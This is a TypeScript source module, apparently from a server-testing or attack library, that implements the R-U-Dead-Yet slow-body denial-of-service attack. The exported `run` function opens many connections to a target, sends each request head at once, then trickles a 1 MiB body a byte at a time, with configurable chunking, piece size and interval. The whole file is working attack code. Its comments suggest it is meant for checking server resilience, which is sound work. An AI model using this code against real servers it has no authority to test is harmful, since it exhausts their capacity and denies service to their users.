/**
 * Clients that announce a body and then send it byte by byte: the attack of R-U-Dead-Yet, which holds whatever a server holds while it
 * reads a body.
 *
 * @since 0.1.0
 */
import type * as Duration from "effect/Duration"
import * as Effect from "effect/Effect"
import { Buffer } from "node:buffer"
import type * as Attack from "./Attack.ts"
import { encodeFields } from "./HttpRequest.ts"
import type { HttpRequest } from "./HttpRequest.ts"
import { dribble } from "./internal/dribble.ts"
import * as swarm from "./internal/swarm.ts"
import type { Input, Resolved } from "./Target.ts"

/**
 * Options of `run`.
 *
 * @category options
 * @since 0.1.0
 */
export interface Options extends Attack.Options {
  /**
   * The request. By default a POST of `application/json` with a body of 1 MiB of spaces, which a reader of JSON accepts until its end. What
   * is given here is taken instead, field by field.
   */
  readonly request?: HttpRequest | undefined
  /**
   * Whether the body is sent in chunks, one for each piece, instead of with a `Content-Length`.
   *
   * @default false
   */
  readonly chunked?: boolean | undefined
  /**
   * How many bytes of the body are sent each `interval`. An integer from 1.
   *
   * @default 1
   */
  readonly pieceBytes?: number | undefined
  /**
   * The time between two pieces. Above 0 and finite.
   *
   * @default "1 second"
   */
  readonly interval?: Duration.Input | undefined
}

const spaces = Buffer.alloc(1_048_576, " ")

const requestOf = ({ request, chunked }: Options) => {
  const { body = spaces, headers = { "Content-Type": "application/json" }, method = "POST", path } = request ?? {}
  const framing: Record<string, string> = chunked === true ? { "Transfer-Encoding": "chunked" } : {}
  return { method, path, headers: { ...headers, ...framing }, body: Buffer.from(body) }
}

const headOf = (target: Resolved, options: Options): string => {
  const request = requestOf(options)
  return `${encodeFields(target, request, request.body.length)}\r\n`
}

function* pieces(options: Options): Generator<Uint8Array> {
  const { body } = requestOf(options)
  const { chunked = false, pieceBytes = 1 } = options
  for (let at = 0; at < body.length; at += pieceBytes) {
    const piece = body.subarray(at, at + pieceBytes)
    yield chunked ? Buffer.concat([Buffer.from(`${piece.length.toString(16)}\r\n`), piece, Buffer.from("\r\n")]) : piece
  }
  if (chunked) yield Buffer.from("0\r\n\r\n")
}

/**
 * Opens connections that send the head of a request at once and its body slowly, and reports how each of them ended.
 *
 * **Details**
 *
 * Returns when all have ended or were watched for `duration`; a connection whose body is whole waits for its end like the others. It does
 * not fail: connections that could not be opened are in the report. Interruption closes them at once. A good server answers 408.
 *
 * @category running
 * @since 0.1.0
 */
export const run = (target: Input, options: Options = {}): Effect.Effect<Attack.Report> =>
  swarm.run("SlowBody.run", target, options, {
    open: swarm.plain([requestOf(options).method]),
    act: (connection, resolved) => {
      swarm.checkInteger("SlowBody.run: pieceBytes", options.pieceBytes ?? 1)
      const interval = swarm.checkMillis("SlowBody.run: interval", options.interval ?? "1 second")
      const head = connection.write(headOf(resolved, options))
      return Effect.andThen(head, dribble(connection, pieces(options), interval))
    }
  })
